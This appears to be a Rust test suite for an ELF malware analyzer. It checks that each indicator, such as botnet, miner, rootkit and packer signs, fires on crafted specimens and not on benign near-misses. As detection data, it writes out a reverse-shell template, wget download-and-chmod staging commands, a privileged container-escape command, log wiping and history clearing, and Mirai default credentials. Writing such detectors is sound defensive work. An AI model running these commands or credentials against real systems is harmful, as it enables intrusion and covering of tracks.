//! Each sign fires where it should, and not where it should not.

use std::collections::BTreeSet;

use analyzers::{Analyzer, Budget, Cancel, Findings, LayerId, Limits, Record, Sample};
use analyzers_elf::{Elf, catalogue};
use specimens::elf::*;
use triage::{ByteOrder, ElfKind, ElfType, FileKind, WordSize};

fn ids(bytes: &[u8]) -> BTreeSet<String> {
    let kind = FileKind::Elf(ElfKind {
        word_size: WordSize::W64,
        byte_order: ByteOrder::Little,
        elf_type: ElfType::Executable,
        machine: 62,
    });
    let record = Record::new(kind, Budget::new(Limits::default(), Cancel::default()));
    let mut findings = Findings::new(record, LayerId::ARTIFACT);
    Elf::new().analyze(Sample { bytes, kind }, &mut findings);
    let (record, _) = findings.finish();
    assert_eq!(record.budget.hit().count(), 0);
    for seen in &record.evidence {
        assert!(seen.span.start <= seen.span.end && seen.span.end <= bytes.len(), "{seen:?}");
    }
    record.evidence.iter().map(|seen| seen.indicator.to_string()).collect()
}

#[track_caller]
fn sees(builder: ElfBuilder, id: &str) {
    assert!(catalogue::ALL.iter().any(|known| known.id.as_str() == id), "{id} is not in the catalogue");
    let seen = ids(&builder.build());
    assert!(seen.contains(id), "{id} not in {seen:?}");
}

#[track_caller]
fn misses(builder: ElfBuilder, id: &str) {
    let seen = ids(&builder.build());
    assert!(!seen.contains(id), "{id} in {seen:?}");
}

/// Each of `texts` alone makes the sign; none of `others` does.
#[track_caller]
fn words(id: &str, texts: &[&[&str]], others: &[&[&str]]) {
    for text in texts {
        sees(ordinary().strings(text), id);
    }
    for text in others {
        misses(ordinary().strings(text), id);
    }
}

/// A program at a fixed address that needs nothing.
fn fixed() -> ElfBuilder {
    elf().load(R | X, vec![0x90; 4096])
}

#[test]
fn an_ordinary_program_shows_nothing_in_any_size_and_order() {
    for builder in [
        ordinary(),
        ordinary().narrow().machine(3),
        ordinary().big_endian().machine(21),
        ordinary().narrow().big_endian().machine(8),
    ] {
        let nothing = BTreeSet::new();
        assert_eq!(ids(&builder.build()), nothing);
    }
}

#[test]
fn an_identification_that_lies_is_seen_and_mended() {
    for (field, value) in [(ElfField::Class, 9), (ElfField::Order, 7), (ElfField::Order, 2), (ElfField::Version, 0)] {
        let seen = ids(&fixed().section(".x", 1, 7, b"code").set(field, value).build());
        assert!(seen.contains("elf.header.odd_ident"), "{field:?} {value}: {seen:?}");
        assert!(seen.contains("elf.section.writable_executable"), "{field:?} {value}: {seen:?}");
    }
    sees(fixed().set(ElfField::Padding, 1), "elf.header.ident_padding");
}

#[test]
fn tables_that_are_absent_or_outside_are_seen() {
    sees(fixed().without_sections(), "elf.sections.absent");
    sees(fixed().without_sections(), "elf.file.static_without_sections");
    sees(ordinary().without_sections(), "elf.sections.absent");
    misses(elf().elf_type(ET_REL).without_sections(), "elf.sections.absent");
    sees(fixed().set(ElfField::SectionsOffset, u64::MAX), "elf.sections.outside_file");
    sees(fixed().set(ElfField::SectionCount, 0xff), "elf.sections.outside_file");
    sees(fixed().set(ElfField::SegmentsOffset, 1 << 40), "elf.segments.outside_file");
    sees(fixed().set(ElfField::SegmentCount, 0xffff), "elf.segments.outside_file");
}

#[test]
fn a_file_that_ends_in_its_header_is_seen() {
    assert!(ids(&fixed().build()[..40]).contains("elf.header.truncated"));
    assert!(!ids(&fixed().build()).contains("elf.header.truncated"));
}

#[test]
fn segments_that_claim_too_much_are_seen() {
    let load = || segment(PT_LOAD).flags(R).data(b"data");
    sees(fixed().segment(load().file_size(1 << 20)), "elf.segment.past_end");
    sees(fixed().segment(load().offset(u64::MAX).file_size(u64::MAX)), "elf.segment.past_end");
    sees(fixed().segment(load().memory_size(2 << 20).address(1 << 32)), "elf.segment.huge_memory");
    misses(fixed().segment(load().memory_size(1 << 19).address(1 << 32)), "elf.segment.huge_memory");
    misses(fixed().segment(load().data([0; 8192]).memory_size(2 << 20).address(1 << 32)), "elf.segment.huge_memory");
    let far = || load().address(0x40_0000).memory_size(0x10_0000);
    sees(fixed().segment(far()).segment(far()), "elf.segment.overlapping");
    // Wherever they stand in the table: the loader maps them as they come.
    sees(fixed().segment(far()).segment(load().address(0x10_0000)).segment(far()), "elf.segment.overlapping");
}

#[test]
fn writable_code_is_seen_but_not_where_the_machine_asks_for_it() {
    sees(elf().load(R | W | X, b"code"), "elf.segment.writable_executable");
    misses(elf().narrow().big_endian().machine(8).load(R | W | X, b"code"), "elf.segment.writable_executable");
    sees(fixed().section(".init", 1, 7, b"code"), "elf.section.writable_executable");
    misses(fixed().section(".plt", 8, 7, b""), "elf.section.writable_executable");
    sees(fixed().segment(segment(PT_GNU_STACK).flags(R | W | X)), "elf.segment.executable_stack");
}

#[test]
fn loaders_that_are_odd_or_too_many_are_seen() {
    sees(fixed().interpreter("/tmp/ld.so"), "elf.segment.odd_interpreter");
    sees(fixed().segment(segment(PT_INTERP).offset(u64::MAX).file_size(9)), "elf.segment.odd_interpreter");
    misses(fixed().interpreter("/lib/ld-musl-x86_64.so.1"), "elf.segment.odd_interpreter");
    sees(ordinary().interpreter("/lib64/ld-linux-x86-64.so.2"), "elf.segment.several_interpreters");
}

#[test]
fn entry_points_out_of_place_are_seen() {
    sees(fixed().entry(0x10), "elf.entry.outside_code");
    sees(fixed().entry(u64::MAX), "elf.entry.outside_code");
    let infected =
        || fixed().load(R | W, [0; 64]).segment(segment(PT_LOAD).flags(R | X).data([0x90; 64]).address(0x90_0000));
    sees(infected().entry(0x90_0000), "elf.entry.in_last_segment");
    misses(infected(), "elf.entry.in_last_segment");
    misses(fixed(), "elf.entry.in_last_segment");
}

#[test]
fn kinds_of_programs_are_told_apart() {
    sees(fixed(), "elf.file.static");
    misses(ordinary(), "elf.file.static");
    sees(fixed().elf_type(ET_DYN), "elf.file.static");
    misses(fixed().elf_type(ET_DYN).soname("libx.so.1"), "elf.file.static");
    sees(elf().load(R | X, b"code"), "elf.file.tiny");
    misses(fixed(), "elf.file.tiny");
    sees(fixed().segment(segment(0x6474_e553)), "elf.note.gnu_property");
}

#[test]
fn packing_is_seen_with_and_without_its_mark() {
    let packed = ids(&upx_like().build());
    for id in ["elf.packer.upx_like_without_magic", "elf.segment.high_entropy_code", "elf.file.high_entropy"] {
        assert!(packed.contains(id), "{id} not in {packed:?}");
    }
    sees(upx_like().upx_magic(), "elf.packer.upx_magic");
    misses(upx_like().upx_magic(), "elf.packer.upx_like_without_magic");
    misses(fixed(), "elf.packer.upx_magic");
    words("elf.packer.upx_text", &[&["$Info: This file is packed with the UPX executable packer"]], &[&["UPX"]]);
}

#[test]
fn what_follows_the_described_part_is_seen() {
    sees(fixed().overlay([1; 100]), "elf.file.overlay");
    misses(fixed().overlay([1; 60]), "elf.file.overlay");
    sees(fixed().overlay(noise(20_000, 3)), "elf.file.big_noisy_overlay");
    misses(fixed().overlay(vec![1; 20_000]), "elf.file.big_noisy_overlay");
}

#[test]
fn words_of_bots_are_seen() {
    words("elf.symbol.bot_function", &[&["attack_init"], &["sendUDP"]], &[&["my_attack_init"], &["sendUDPPacket"]]);
    sees(ordinary().symbol("killer_kill_by_port"), "elf.symbol.bot_function");
    words("elf.string.mirai", &[&["attack_init", "killer_init"]], &[&["attack_init"]]);
    words(
        "elf.string.gafgyt",
        &[&["getRandomPublicIP", "makeRandomStr"], &["HOLD Flooding %s", "My IP: %s"], &["zprintf", "recvLine"]],
        &[&["zprintf"], &["\"connectTimeout\":", "initConnection()"]],
    );
    words("elf.string.tsunami", &[&["NOTICE %s :TSUNAMI <target> <secs>\n"]], &[&["NOTICE %s :hello"]]);
    words("elf.string.xorddos", &[&["BB2FA36AAA9541F0"]], &[&["BB2FA36AAA95"]]);
    words("elf.string.billgates", &[&["11CAttackBase"]], &[&["AttackBase"]]);
    words("elf.string.mozi", &[&["/Mozi.m"]], &[&["Mozilla"]]);
    words("elf.string.flood_vocabulary", &[&["udpflood"], &["HTTPHEX"], &["botnet"]], &[&["flooded"]]);
    words(
        "elf.string.router_exploit",
        &[&["POST /HNAP1/ HTTP/1.0"], &["/ctrlt/DeviceUpgrade_1"]],
        &[&["/cgi-bin/index"]],
    );
    words("elf.string.default_credentials", &[&["xc3511", "vizxv"], &["klv1234", "7ujMko0admin"]], &[&["xc3511"]]);
    words("elf.string.busybox_command", &[&["/bin/busybox ECCHI"]], &[&["/bin/busybox"]]);
    words("elf.string.telnet_probe", &[&["ogin:", "assword:"], &["sername", "ncorrect"]], &[&["login:", "password:"]]);
    words("elf.string.architecture_list", &[&["bot.armv4l", "bot.mipsel", "bot.powerpc"]], &[&["bot.x86_64"]]);
    words("elf.string.watchdog_device", &[&["/dev/watchdog"]], &[&["open /dev/watchdog"]]);
    words(
        "elf.string.irc_verbs",
        &[&["NICK %s\n", "PRIVMSG %s :hi"]],
        &[&["NICK %s\n"], &["ALTER USER %s PASSWORD", "LEFT JOIN %s"]],
    );
}

#[test]
fn strings_under_one_key_are_seen_whatever_the_key() {
    for key in [0x01u8, 0x22, 0x54, 0xff] {
        let table: Vec<u8> = b"\0/proc/net/tcp\0".iter().map(|byte| byte ^ key).collect();
        sees(ordinary().section(".data", 1, 3, table), "elf.string.hidden_by_xor");
    }
    words("elf.string.hidden_by_xor", &[], &[&["/proc/net/tcp", "/dev/watchdog"]]);
    let hide = |text: &[u8], key: u8| -> Vec<u8> { text.iter().map(|byte| byte ^ key).collect() };
    let with = |table: Vec<u8>| ordinary().section(".data", 1, 3, table);
    sees(with(hide(b"/dev/watchdog", 0x22)), "elf.string.mirai");
    sees(with(hide(b"/dev/watchdog\0/bin/busybox MIRAI", 0x54)), "elf.string.mirai");
    misses(with(hide(b"/dev/watchdog", 0x54)), "elf.string.mirai");
    misses(with([hide(b"/dev/watchdog", 1), hide(b"/proc/net/tcp", 2)].concat()), "elf.string.mirai");
    // Across the border of two chunks.
    let mut data = vec![0; 1 << 17];
    let start = (1 << 16) - 6 - 16 * 40;
    let hidden: Vec<u8> = b"/dev/watchdog".iter().map(|byte| byte ^ 0x37).collect();
    for at in (start..start + 16 * 60).step_by(60) {
        data[at..at + hidden.len()].copy_from_slice(&hidden);
    }
    sees(ordinary().section(".data", 1, 3, data), "elf.string.hidden_by_xor");
}

#[test]
fn words_of_networks_are_seen() {
    words("elf.string.proc_net", &[&["/proc/net/tcp"], &["/proc/net/route"]], &[&["/proc/net"]]);
    words(
        "elf.string.http_request",
        &[&["GET /x HTTP/1.1\r\nHost: %s"], &["POST %s HTTP/1.0\r\n"]],
        // In Go and Rust, strings stand side by side.
        &[&["expected HTTP/1.1\r\n"], &["GET /x"], &["netAddrConn(GET %s HTTP/1.0\n"]],
    );
    // Requests are what a library for them is for.
    misses(ordinary().soname("libfetch.so.1").strings(&["GET %s HTTP/1.0\r\n"]), "elf.string.http_request");
    words(
        "elf.string.browser_user_agent",
        &[&["Mozilla/5.0 (Windows NT 6.1; WOW64)"], &["Mozilla/4.0 (compatible; MSIE 8.0)"]],
        &[&["Mozilla/5.0 (compatible; crawler)"], &["Mozilla"]],
    );
    words(
        "elf.string.public_address",
        &[&["93.184.216.34"]],
        &[
            &["192.168.0.1"],
            &["169.254.169.254"],
            &["version 93.184.216.34"],
            &["1.2.3.4"],
            &["2.5.29.35", "2.5.4.41", "1.3.101.112", "2.23.140.1"],
            &["6.12.0.122"],
        ],
    );
    sees(fixed().strings(&["/etc/resolv.conf"]), "elf.string.own_resolver");
    words("elf.string.own_resolver", &[], &[&["/etc/resolv.conf"]]);
    words("elf.string.uclibc", &[&["__uClibc_main"]], &[&["glibc"], &["Use the uClibc C library."]]);
    sees(fixed().strings(&["/proc/net/tcp", "93.184.216.34"]), "elf.file.static_network_client");
    misses(fixed().strings(&["/proc/net/tcp"]), "elf.file.static_network_client");
    misses(ordinary().strings(&["/proc/net/tcp", "93.184.216.34"]), "elf.file.static_network_client");
}

#[test]
fn command_lines_are_seen() {
    words(
        "elf.string.download_command",
        &[&["cd x; wget http://%s/a"], &["curl -O %s"]],
        &[&["curl "], &["libcurl -o"], &["try 'curl --help' or 'curl --manual'"], &["`wget --version'"]],
    );
    words(
        "elf.string.make_executable",
        &[&["chmod 777 x"], &["chmod +x %s"]],
        &[&["chmod"], &["fchmod 777 "], &["|| chmod a+x $@"]],
    );
    words(
        "elf.string.staging_command",
        &[&["cd /tmp || cd /var/run"], &["cd /tmp; sh"]],
        &[&["cd /tmp"], &["cd /tmp/x"]],
    );
    words("elf.string.base64_pipe", &[&["echo x | base64 -d"], &["base64 --decode f|sh"]], &[&["base64 -d file"]]);
    words("elf.string.hidden_temp_path", &[&["/tmp/.bot"], &["/var/tmp/x"]], &[&["/tmp/.X11-unix"], &["/tmp/x"]]);
    words("elf.string.kill_command", &[&["pkill -9 xmr"], &["kill -9 %d"]], &[&["kill %d"]]);
    words("elf.string.firewall_change", &[&["iptables -F"], &["setenforce 0"]], &[&["iptables"]]);
    words("elf.string.history_off", &[&["unset HISTFILE"], &["history -c;"]], &[&["HISTFILE"]]);
    words("elf.string.log_wipe", &[&["rm -rf /var/log/*"]], &[&["/var/log/wtmp"]]);
    words("elf.string.reverse_shell", &[&["bash -i >& /dev/tcp/%s/%d 0>&1"]], &[&["bash"]]);
    words("elf.string.container_escape", &[&["docker run --privileged -v /:/mnt"]], &[&["docker run"]]);
}

#[test]
fn words_of_miners_and_of_extortion_are_seen() {
    words("elf.string.miner_words", &[&["stratum+tcp://"], &["donate-level"]], &[&["stratum"]]);
    words("elf.string.xmrig", &[&["XMRig/%s", "donate.v2.xmrig.com"]], &[&["XMRig/%s"]]);
    words(
        "elf.string.ransom_words",
        &[&["http://abcdefghijklmnop234567.onion/"], &["All your files have been encrypted"]],
        &[&["example.onion/"], &["files are copied"]],
    );
}

#[test]
fn words_of_staying_and_hiding_are_seen() {
    words("elf.string.preload_file", &[&["/etc/ld.so.preload"], &["/etc/ld.so.preload", "_rtld_global"]], &[]);
    words("elf.string.cron", &[&["/var/spool/cron/root"], &["(crontab -l 2>/dev/null)"]], &[&["crontab"]]);
    words("elf.string.rc_script", &[&["/etc/rc.local"]], &[&["rc.local"]]);
    words("elf.string.systemd_unit", &[&["/etc/systemd/system/x.service"]], &[&["systemd"]]);
    words("elf.symbol.hook_exports", &[&["process_to_filter"]], &[&["process"]]);
    words("elf.string.kernel_rootkit", &[&["hacked_getdents64"], &["module_hide"]], &[&["getdents64"]]);
    words("elf.string.memory_file", &[&["memfd_create"], &["fexecve"]], &[&["execve"]]);
    words("elf.string.own_executable", &[&["/proc/self/exe"]], &[&["/proc/self"]]);
}

#[test]
fn libraries_that_hook_are_seen() {
    let library = |exports: &[&str], imports: &[&str]| {
        let mut builder = elf().elf_type(ET_DYN).load(R | X, [0x90; 64]);
        for name in exports {
            builder = builder.dynamic_symbol(name, true);
        }
        for name in imports {
            builder = builder.dynamic_symbol(name, false);
        }
        builder
    };
    let hooks = ["readdir", "readdir64", "open", "stat", "unlink"];
    for builder in [library(&hooks, &["dlsym"]), library(&hooks, &["dlsym"]).narrow().machine(3)] {
        sees(builder, "elf.symbol.hook_exports");
    }
    misses(library(&hooks, &[]), "elf.symbol.hook_exports");
    misses(library(&["readdir", "open"], &["dlsym"]), "elf.symbol.hook_exports");
    misses(library(&[], &[&hooks[..], &["dlsym"]].concat()), "elf.symbol.hook_exports");
}

/// Names of tools, in order, as the bundle's table has them.
fn tools(count: usize) -> String {
    let mut names: Vec<String> = (0..count).map(|number| format!("m{number:03}")).collect();
    names.extend(["mkdir".to_owned(), "mount".to_owned()]);
    names.join("\0")
}

/// The bundle: its texts, its table and as much code as `code` bytes.
fn bundle(code: usize, table: &str) -> ElfBuilder {
    let texts = ["BusyBox v1.36.1", "multi-call binary", "%s: applet not found", "/proc/net/tcp", "/etc/init.d/rcS"];
    elf().load(R | X, vec![0x90; code]).strings(&texts).strings(&[table])
}

#[test]
fn the_bundle_of_tools_is_known_by_more_than_its_words() {
    let known = "elf.file.multi_call_tools";
    sees(bundle(256 << 10, &tools(100)), known);
    sees(bundle(256 << 10, &tools(100)).narrow().big_endian().machine(8), known);
    // Words alone, a short table, a table out of order, and little code excuse nothing.
    misses(bundle(256 << 10, ""), known);
    misses(bundle(256 << 10, &tools(20)), known);
    misses(bundle(256 << 10, &tools(100).split('\0').rev().collect::<Vec<_>>().join("\0")), known);
    misses(bundle(8 << 10, &tools(100)), known);
}

#[test]
fn any_other_sign_voids_the_excuse_of_the_bundle() {
    let known = "elf.file.multi_call_tools";
    for word in [
        "udpflood",
        "hacked_getdents64",
        "process_to_filter",
        "chmod +x /tmp/x",
        "unset HISTFILE",
        "files have been encrypted",
        "curl -s http://x",
        "93.184.216.34",
        "stratum+tcp://",
        "/etc/ld.so.preload",
    ] {
        misses(bundle(256 << 10, &tools(100)).strings(&[word]), known);
    }
    misses(bundle(256 << 10, &tools(100)).overlay([7; 100]), known);
}

#[test]
fn a_core_is_not_blamed_for_what_it_holds() {
    assert_eq!(ids(&elf().elf_type(ET_CORE).load(R, b"udpflood attack_init").build()), BTreeSet::new());
}

#[test]
fn names_that_a_library_offers_to_others_are_no_bots_functions() {
    let library = || elf().elf_type(ET_DYN).load(R | X, [0x90; 64]).soname("libnet.so.1");
    misses(library().bound_symbol("sendUDP", true).bound_symbol("syn_flood", true), "elf.symbol.bot_function");
    misses(library().bound_symbol("sendUDP", true).bound_symbol("syn_flood", true), "elf.string.flood_vocabulary");
    // A program's own names and what stands elsewhere stay what they are; so does what rootkits export.
    sees(ordinary().symbol("sendUDP"), "elf.symbol.bot_function");
    sees(library().bound_symbol("puts", false).strings(&["sendUDP"]), "elf.symbol.bot_function");
    sees(library().bound_symbol("hooked_readdir", true), "elf.symbol.hook_exports");
    sees(
        library().bound_symbol("hacked_getdents64", true).strings(&["hacked_getdents64"]),
        "elf.string.kernel_rootkit",
    );
}

#[test]
fn words_are_found_at_every_alignment() {
    for shift in 0..16 {
        let text = format!("{}udpflood", "\0".repeat(shift));
        sees(ordinary().strings(&[&text]), "elf.string.flood_vocabulary");
    }
}

#[test]
fn ids_are_well_formed_and_told_once() {
    let ids: BTreeSet<&str> = catalogue::ALL.iter().map(|indicator| indicator.id.as_str()).collect();
    assert_eq!(ids.len(), catalogue::ALL.len());
    for indicator in catalogue::ALL {
        let parts: Vec<&str> = indicator.id.as_str().split('.').collect();
        assert!(parts.len() == 3 && parts[0] == "elf", "{}", indicator.id);
        assert!(indicator.meaning.ends_with('.'), "{}", indicator.id);
    }
}

#[test]
fn only_elf_files_are_wanted() {
    assert!(!Elf::new().wants(FileKind::Data) && !Elf::new().wants(FileKind::Text));
}
